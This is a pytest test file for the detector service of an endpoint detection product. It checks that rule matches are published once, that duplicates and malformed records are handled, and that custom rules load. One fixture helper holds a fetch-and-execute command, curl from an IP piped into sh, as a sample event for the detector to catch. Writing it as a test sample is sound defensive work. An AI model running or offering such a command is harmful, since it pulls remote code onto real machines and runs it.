"""The detector publishes each match once durable, whatever the bus or a record does."""

import asyncio
import hashlib
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from microedr import headers, ids
from microedr.batch import encode_batch
from microedr.v1.detection_pb2 import Match
from microedr.v1.event_pb2 import AgentEvent, EventBatch, Host, Process, ProcExec, ProcFork
from microedr_chassis import catalogue
from microedr_chassis.bus import topics
from microedr_chassis.bus.api import ConsumedRecord, Record, TopicPartition
from microedr_chassis.bus.memory import MemoryBus
from microedr_chassis.errors import BusRecordError, BusUnavailableError, SettingsError
from microedr_chassis.metrics import MetricRegistry, Metrics
from microedr_chassis.settings import load_settings
from microedr_detector.app import DetectorService
from microedr_detector.settings import DetectorSettings

HOST, TENANT, EPOCH, TRACE = "host-a", "default", "0b6e0ea2-53a2-4d37-8b43-9d2f0d5d0f11", "ab" * 16
NOW_UNIX_NS = 1_760_000_000_000_000_000


def harmless(pid: int = 10) -> AgentEvent:
    return AgentEvent(
        process=Process(pid=pid, exe="/usr/bin/ls", cmdline="ls -l", parent_exe="/usr/bin/bash"),
        proc_exec=ProcExec(argv=["ls", "-l"], exe_inode=3, exe_nlink=1),
    )


def fetch_and_run(pid: int = 11) -> AgentEvent:
    cmdline = "sh -c curl http://203.0.113.7/i | sh"
    return AgentEvent(
        process=Process(pid=pid, exe="/usr/bin/dash", cmdline=cmdline, parent_exe="/usr/bin/python3.11"),
        proc_exec=ProcExec(argv=["sh", "-c", "curl http://203.0.113.7/i | sh"], exe_inode=4, exe_nlink=1),
    )


def batch_record(events: Sequence[AgentEvent], *, first: int = 1, **changed: bytes) -> Record:
    batch = EventBatch(events=events)
    for index, event in enumerate(batch.events):
        event.seqno = first + index
    fields = {
        headers.TENANT: TENANT.encode(),
        headers.HOST: HOST.encode(),
        headers.EPOCH: EPOCH.encode(),
        headers.LANE: b"0",
        headers.FIRST_SEQ: b"%d" % first,
        headers.LAST_SEQ: b"%d" % (first + len(events) - 1),
        headers.COUNT: b"%d" % len(events),
        headers.TRACE: TRACE.encode(),
    }
    return Record(topics.EVENTS, HOST.encode(), encode_batch(batch), {**fields, **changed})


class Rig:
    """A running detector on a bus in memory."""

    def __init__(self, bus: MemoryBus, metrics: Metrics) -> None:
        self.bus = bus
        self.metrics = metrics

    async def read(self, topic: str, count: int) -> list[ConsumedRecord]:
        """The first ``count`` records of ``topic``; fails after five seconds without them."""
        tail = await self.bus.tail([topic], since_unix_ms=0)
        found: list[ConsumedRecord] = []
        async with asyncio.timeout(5):
            while len(found) < count:
                found += await tail.fetch(max_records=100, timeout_s=0.2)
        await tail.close()
        return found

    async def matches(self, count: int) -> list[Match]:
        """The first ``count`` matches."""
        return [Match.FromString(record.value) for record in await self.read(topics.MATCHES, count)]

    async def settled(self, events_total: int) -> None:
        """Return when the detector has consumed so many events."""
        async with asyncio.timeout(5):
            while self.metrics.value(catalogue.EVENTS_CONSUMED) < events_total:  # noqa: ASYNC110 - a counter tells nobody
                await asyncio.sleep(0.01)


@asynccontextmanager
async def running(bus: MemoryBus | None = None, **settings: object) -> AsyncIterator[Rig]:
    bus = bus or MemoryBus()
    await bus.start()
    await bus.ensure_topics(topics.catalogue(2))
    metrics = MetricRegistry().for_service("detector")
    loaded = load_settings(DetectorSettings, bus="memory", member="one", **settings)
    service = DetectorService(loaded, bus=bus, metrics=metrics, unix_ns=lambda: NOW_UNIX_NS)
    await service.start()
    async with asyncio.TaskGroup() as tasks:
        tasks.create_task(service.serve())
        try:
            yield Rig(bus, metrics)
        finally:
            await service.stop()
    await bus.close()


async def test_a_match_carries_the_whole_event_the_rule_and_where_both_stand() -> None:
    first = harmless()
    first.hostname, first.os = "web-1", "linux"
    first.host.CopyFrom(Host(host_id=HOST, hostname="web-1"))
    async with running() as rig:
        await rig.bus.publish(batch_record([first, harmless(), fetch_and_run()], first=41))
        (match,) = await rig.matches(1)

    event = match.event
    assert match.rule.rule_id == "R1001"
    assert match.rule.builtin
    assert match.rule.confidence >= 0.9
    assert match.rule.actions[0].auto_if_confidence_gte == pytest.approx(0.9)
    assert (match.tenant_id, match.host_id, match.epoch_id, match.lane) == (TENANT, HOST, EPOCH, 0)
    assert match.trace_id == TRACE
    assert match.matched_unix_ns == NOW_UNIX_NS
    assert match.matched_fields["process.exe"] == "/usr/bin/dash"
    assert event.event_id == ids.event_id(HOST, EPOCH, 0, 43)
    assert match.match_id == ids.match_id("R1001", event.event_id)
    assert (event.host_id, event.hostname, event.os, event.seqno) == (HOST, "web-1", "linux", 43)
    given, event.content_hash = event.content_hash, b""
    assert given == hashlib.sha256(event.SerializeToString(deterministic=True)).digest()


async def test_a_record_of_matches_is_keyed_and_headed_by_host() -> None:
    async with running() as rig:
        await rig.bus.publish(batch_record([fetch_and_run()]))
        (record,) = await rig.read(topics.MATCHES, 1)

    assert record.key == HOST.encode()
    assert record.headers == {
        headers.TENANT: TENANT.encode(),
        headers.HOST: HOST.encode(),
        headers.TRACE: TRACE.encode(),
    }


async def test_what_was_seen_before_is_not_matched_again() -> None:
    async with running() as rig:
        await rig.bus.publish(batch_record([fetch_and_run(), harmless()]))
        await rig.bus.publish(batch_record([fetch_and_run(), harmless()]))
        await rig.bus.publish(batch_record([harmless(), fetch_and_run()], first=2))
        await rig.bus.publish(batch_record([harmless()], first=10))
        await rig.settled(4)
        matches = await rig.matches(2)

        assert [match.event.seqno for match in matches] == [1, 3]
        assert rig.metrics.value(catalogue.EVENTS_DUPLICATE) == 3
        assert rig.metrics.value(catalogue.EVENTS_MISSING) == 6
        assert rig.metrics.value(catalogue.EVENTS_MATCHED) == 2


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        pytest.param(
            Record(topics.EVENTS, b"host-a", b"\x05ab", batch_record([harmless()]).headers), b"undecodable", id="cut"
        ),
        pytest.param(batch_record([harmless()], first_seq=b"x"), b"bad_headers", id="sequence"),
        pytest.param(batch_record([harmless()], last_seq=b"9"), b"bad_headers", id="count"),
        pytest.param(batch_record([harmless()], tenant_id=b"\xff"), b"bad_headers", id="tenant"),
    ],
)
async def test_poison_becomes_a_dead_letter_and_the_next_record_is_matched(record: Record, reason: bytes) -> None:
    async with running() as rig:
        await rig.bus.publish(record)
        await rig.bus.publish(batch_record([fetch_and_run()], first=100))
        await rig.matches(1)
        (letter,) = await rig.read(topics.dead_letters(topics.EVENTS), 1)

    assert reason in letter.headers.values()


class FlakyBus(MemoryBus):
    """Answers to every match but the first three tries that it is away."""

    failures = 3

    def submit(self, record: Record) -> "asyncio.Future[tuple[TopicPartition, int]]":
        """As the bus, but for the failures."""
        if record.topic == topics.MATCHES and self.failures:
            self.failures -= 1
            future: asyncio.Future[tuple[TopicPartition, int]] = asyncio.get_running_loop().create_future()
            future.set_exception(BusUnavailableError("away"))
            return future
        return super().submit(record)


async def test_matches_survive_a_bus_that_is_away_for_a_while() -> None:
    async with running(FlakyBus()) as rig:
        await rig.bus.publish(batch_record([fetch_and_run(pid) for pid in range(5)]))
        matches = await rig.matches(5)

    assert sorted(match.event.seqno for match in matches) == [1, 2, 3, 4, 5]


class NarrowBus(MemoryBus):
    """Refuses the first match for good, as a broker refuses what is too large for it."""

    refused = False

    def submit(self, record: Record) -> "asyncio.Future[tuple[TopicPartition, int]]":
        """As the bus, but for that one."""
        if record.topic == topics.MATCHES and not self.refused:
            self.refused = True
            raise BusRecordError("too large")
        return super().submit(record)


async def test_a_match_that_can_never_be_published_is_counted_and_holds_up_no_other() -> None:
    async with running(NarrowBus()) as rig:
        await rig.bus.publish(batch_record([fetch_and_run(pid) for pid in range(3)]))
        matches = await rig.matches(2)
        await rig.settled(3)

    assert [match.event.seqno for match in matches] == [2, 3]
    assert rig.metrics.value(catalogue.RECORDS_DROPPED, topic=topics.MATCHES, reason="unpublishable") == 1


async def test_a_flood_of_matches_goes_out_in_portions() -> None:
    async with running(MemoryBus(queue_records=50)) as rig:
        await rig.bus.publish(batch_record([fetch_and_run(pid) for pid in range(300)]))
        matches = await rig.matches(300)

    assert len({match.match_id for match in matches}) == 300


async def test_rules_of_ones_own_are_matched_and_wrong_ones_left_out(tmp_path: Path) -> None:
    (tmp_path / "mine.yaml").write_text(
        "id: MY-1\nname: Listing\nseverity: low\nmatch:\n  event_type: proc.fork\n  fork.child_pid: 7\n"
    )
    (tmp_path / "wrong.yaml").write_text("id: MY-2\nname: x\nmatch:\n  event_type: proc.nothing\n")
    async with running(rules=(tmp_path,)) as rig:
        await rig.bus.publish(batch_record([AgentEvent(proc_fork=ProcFork(child_pid=7))]))
        (match,) = await rig.matches(1)

    assert match.rule.rule_id == "MY-1"
    assert not match.rule.builtin
    assert match.rule.confidence < 0.9


async def test_no_rules_at_all_is_a_setting_to_be_mended() -> None:
    service = DetectorService(
        load_settings(DetectorSettings, bus="memory", builtin=False),
        bus=MemoryBus(),
        metrics=MetricRegistry().for_service("detector"),
    )
    with pytest.raises(SettingsError, match="MICROEDR_DETECTOR_RULES"):
        await service.start()


def test_a_rules_directory_that_does_not_exist_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MICROEDR_DETECTOR_RULES", "/nowhere/rules")
    with pytest.raises(SettingsError, match="MICROEDR_DETECTOR_RULES: /nowhere/rules: no such file"):
        load_settings(DetectorSettings, bus="memory")
